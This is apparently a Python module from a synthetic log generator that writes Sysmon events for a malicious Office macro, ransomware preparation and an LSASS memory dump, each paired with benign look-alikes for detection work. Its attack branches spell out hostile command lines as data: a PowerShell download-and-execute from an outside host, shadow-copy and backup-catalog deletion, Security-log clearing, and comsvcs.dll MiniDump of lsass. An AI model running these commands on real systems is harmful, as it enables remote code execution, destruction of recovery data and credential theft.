"""What Sysmon sees of intrusions on Windows hosts, and of innocent programs that look like them."""

from __future__ import annotations

from forja.corpus.synth.attacks.windows import windows_noise
from forja.corpus.synth.grammar import Draw, base64_digits, between, hexadecimal_digits, pick, sample
from forja.corpus.synth.logs import sysmon
from forja.corpus.synth.site import Clock, Line, Site, Story, office_pc


def sysmon_noise(site: Site, clock: Clock, host: str, draw: Draw) -> list[Line]:
    lines: list[Line] = []
    for _ in range(between(0, 5, draw)):
        at, kind = clock.after(2, 120), int(draw() * 5)
        if kind == 0:
            lines.append(
                (
                    at,
                    sysmon(
                        at,
                        22,
                        host,
                        {
                            "Image": r"C:\Program Files\Browser\browser.exe",
                            "QueryName": f"intranet.{site.firm.domain}",
                            "QueryResults": site.address(80),
                        },
                    ),
                )
            )
        elif kind == 1:
            lines.append(
                (
                    at,
                    sysmon(
                        at,
                        1,
                        host,
                        {
                            "Image": r"C:\Windows\System32\svchost.exe",
                            "CommandLine": "svchost.exe -k netsvcs -p",
                            "ParentImage": r"C:\Windows\System32\services.exe",
                        },
                    ),
                )
            )
        elif kind == 2:
            lines.append(
                (at, sysmon(at, 5, host, {"Image": r"C:\Windows\System32\notepad.exe", "User": site.people[0].user}))
            )
        elif kind == 3:
            lines.append(
                (
                    at,
                    sysmon(
                        at,
                        3,
                        host,
                        {
                            "Image": r"C:\Program Files\Mail\mail.exe",
                            "DestinationIp": site.address(25),
                            "DestinationPort": "993",
                        },
                    ),
                )
            )
        else:
            lines.append(
                (
                    at,
                    sysmon(
                        at,
                        11,
                        host,
                        {
                            "Image": r"C:\Windows\explorer.exe",
                            "TargetFilename": rf"C:\Users\{site.user}\Documents\plan{between(1, 90, draw)}.xlsx",
                        },
                    ),
                )
            )
    return lines


def macro(site: Site, draw: Draw, attack: bool) -> Story:
    """An office document that starts a shell; or management software that does. Sysmon."""
    clock = Clock(site.start, draw)
    victim = site.people[0]
    host = f"{office_pc(victim, draw)}.{site.firm.word.lower()}.test"
    user = f"{site.firm.word.upper()}\\{victim.user}"
    lines: list[Line] = []
    shell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    office = pick(("WINWORD.EXE", "EXCEL.EXE", "OUTLOOK.EXE"), draw)
    parent = (
        rf"C:\Program Files\Microsoft Office\root\Office16\{office}"
        if attack
        else r"C:\Program Files\EndpointManager\agent.exe"
    )
    if attack:
        name = pick(("Invoice", "Scan", "Offer", "Statement"), draw) + str(between(100, 9999, draw))
        lines.append(
            (
                at := clock.after(1, 5),
                sysmon(
                    at,
                    11,
                    host,
                    {"Image": parent, "TargetFilename": rf"C:\Users\{victim.user}\Downloads\{name}.docm", "User": user},
                ),
            )
        )
        command = pick(
            (
                "powershell.exe -nop -w hidden -enc {x}",
                "powershell -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand {x}",
                "powershell.exe -c \"IEX (New-Object Net.WebClient).DownloadString('http://{a}/{w}')\"",
            ),
            draw,
        )
        command = (
            command.replace("{x}", "SQBFAFgAIA" + base64_digits(between(20, 60, draw), draw))
            .replace("{a}", site.outside[0])
            .replace("{w}", hexadecimal_digits(6, draw))
        )
    else:
        command = pick(
            (
                r"powershell.exe -NoProfile -File C:\ProgramData\EndpointManager\inventory.ps1",
                r"powershell.exe -ExecutionPolicy AllSigned -File C:\ProgramData\EndpointManager\compliance-check.ps1",
                r"powershell.exe -NonInteractive -File C:\ProgramData\EndpointManager\patch-state.ps1",
            ),
            draw,
        )
        user = r"NT AUTHORITY\SYSTEM"
    lines.append(
        (
            at := clock.after(1, 8),
            sysmon(
                at,
                1,
                host,
                {
                    "Image": shell,
                    "CommandLine": command,
                    "ParentImage": parent,
                    "User": user,
                    "Hashes": f"SHA256={hexadecimal_digits(64, draw)}",
                },
            ),
        )
    )
    target = site.outside[0] if attack else site.address(between(5, 20, draw))
    lines.append(
        (
            at := clock.after(1, 6),
            sysmon(
                at,
                3,
                host,
                {
                    "Image": shell,
                    "User": user,
                    "Protocol": "tcp",
                    "DestinationIp": target,
                    "DestinationPort": pick(("443", "8080", "80", "8443"), draw) if attack else "443",
                },
            ),
        )
    )
    if attack and draw() < 0.6:
        run = r"HKU\S-1-5-21\Software\Microsoft\Windows\CurrentVersion\Run\Updater"
        lines.append(
            (
                at := clock.after(2, 20),
                sysmon(
                    at,
                    13,
                    host,
                    {
                        "Image": shell,
                        "TargetObject": run,
                        "Details": rf"C:\Users\{victim.user}\AppData\Roaming\{hexadecimal_digits(6, draw)}.exe",
                    },
                ),
            )
        )
    lines += sysmon_noise(site, clock, host, draw)
    return Story(
        lines,
        "T1059.001",
        "Microsoft-Windows-Sysmon/Operational",
        {
            "source": target,
            "user": victim.user,
            "target": host,
            "count": str(len(lines)),
            "tool": office if attack else "agent.exe",
        },
    )


def ransomware(site: Site, draw: Draw, attack: bool) -> Story:
    """Shadow copies deleted and recovery switched off; or the nightly backup. Sysmon process creation."""
    clock = Clock(site.night, draw)
    host = f"{site.host.upper()}.{site.firm.word.lower()}.test"
    user = f"{site.firm.word.upper()}\\{site.admin}" if attack else f"{site.firm.word.upper()}\\svc_backup"
    parent = (
        rf"C:\Users\Public\{hexadecimal_digits(7, draw)}.exe" if attack else r"C:\Program Files\BackupSuite\bin\job.exe"
    )
    bad = (
        ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        ("wbadmin.exe", "wbadmin delete catalog -quiet"),
        ("bcdedit.exe", "bcdedit /set {default} recoveryenabled No"),
        ("wmic.exe", "wmic shadowcopy delete /nointeractive"),
        ("net.exe", f"net stop {pick(('MSSQLSERVER', 'VeeamBackupSvc', 'SQLWriter'), draw)} /y"),
        ("wevtutil.exe", "wevtutil cl Security"),
        ("taskkill.exe", "taskkill /f /im sqlservr.exe"),
        ("fsutil.exe", "fsutil usn deletejournal /d C:"),
        ("bcdedit.exe", "bcdedit /set {default} bootstatuspolicy ignoreallfailures"),
    )
    good = (
        ("vssadmin.exe", "vssadmin list shadows"),
        ("vssadmin.exe", "vssadmin create shadow /for=D:"),
        ("wbadmin.exe", "wbadmin start backup -backupTarget:E: -include:D: -quiet"),
        ("wbadmin.exe", "wbadmin get versions"),
        ("robocopy.exe", r"robocopy D:\data E:\mirror /MIR /R:2"),
        ("vssadmin.exe", "vssadmin list writers"),
        ("schtasks.exe", "schtasks /query /tn NightlyBackup"),
    )
    lines: list[Line] = []
    chosen = sample(bad if attack else good, between(3, 6, draw), draw)
    for image, command in chosen:
        lines.append(
            (
                at := clock.after(1, 15 if attack else 300),
                sysmon(
                    at,
                    1,
                    host,
                    {
                        "Image": rf"C:\Windows\System32\{image}",
                        "CommandLine": command,
                        "ParentImage": parent,
                        "User": user,
                    },
                ),
            )
        )
    if attack:
        ending = pick((".lckd", ".crypt7", ".r4n", ".zzq"), draw)
        for _ in range(between(2, 5, draw)):
            lines.append(
                (
                    at := clock.after(0.1, 2),
                    sysmon(
                        at,
                        11,
                        host,
                        {
                            "Image": parent,
                            "TargetFilename": rf"D:\share\plan{between(1, 999, draw)}.xlsx{ending}",
                        },
                    ),
                )
            )
    lines += sysmon_noise(site, clock, host, draw)
    return Story(
        lines,
        "T1490",
        "Microsoft-Windows-Sysmon/Operational",
        {"source": parent, "user": user, "target": host, "count": str(len(chosen)), "tool": chosen[0][0]},
    )


def credential_dump(site: Site, draw: Draw, attack: bool) -> Story:
    """A process reads the memory of LSASS; or the virus scanner looks at it with few rights."""
    clock = Clock(site.start, draw)
    host = f"{site.host.upper()}.{site.firm.word.lower()}.test"
    lsass = r"C:\Windows\System32\lsass.exe"
    lines: list[Line] = []
    if attack:
        image = pick(
            (
                rf"C:\Temp\{hexadecimal_digits(6, draw)}.exe",
                r"C:\Windows\System32\rundll32.exe",
                rf"C:\Users\{site.user}\AppData\Local\Temp\pd64.exe",
            ),
            draw,
        )
        line = pick(
            (
                rf"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {between(500, 900, draw)} C:\Temp\o.dmp full",
                rf"{image} -accepteula -ma lsass.exe C:\Temp\{hexadecimal_digits(4, draw)}.dmp",
            ),
            draw,
        )
        lines.append(
            (
                at := clock.after(1, 30),
                sysmon(
                    at,
                    1,
                    host,
                    {
                        "Image": image,
                        "CommandLine": line,
                        "User": site.user,
                        "ParentImage": r"C:\Windows\System32\cmd.exe",
                    },
                ),
            )
        )
        rights = pick(("0x1FFFFF", "0x1010", "0x1438", "0x1410"), draw)
    else:
        image, rights = (
            pick(
                (
                    r"C:\Program Files\EndpointGuard\scan.exe",
                    r"C:\Windows\System32\wbem\wmiprvse.exe",
                    r"C:\Windows\System32\csrss.exe",
                ),
                draw,
            ),
            "0x1000",
        )
    for _ in range(between(1, 3, draw)):
        lines.append(
            (
                at := clock.after(0.2, 60),
                sysmon(
                    at,
                    10,
                    host,
                    {
                        "SourceImage": image,
                        "TargetImage": lsass,
                        "GrantedAccess": rights,
                        "CallTrace": r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4"
                        + ("|UNKNOWN" if attack and draw() < 0.5 else r"|C:\Windows\System32\KERNELBASE.dll+2730e"),
                    },
                ),
            )
        )
    if attack and draw() < 0.7:
        lines.append(
            (
                at := clock.after(0.5, 3),
                sysmon(at, 11, host, {"Image": image, "TargetFilename": rf"C:\Temp\{hexadecimal_digits(4, draw)}.dmp"}),
            )
        )
    lines += sysmon_noise(site, clock, host, draw) + windows_noise(site, clock, host, draw)
    return Story(
        lines,
        "T1003.001",
        "Microsoft-Windows-Sysmon/Operational",
        {"source": image, "user": site.user, "target": host, "count": rights, "tool": image.rsplit("\\", 1)[1]},
    )


ATTACKS = {
    "malicious-macro": macro,
    "ransomware-precursor": ransomware,
    "credential-dump": credential_dump,
}
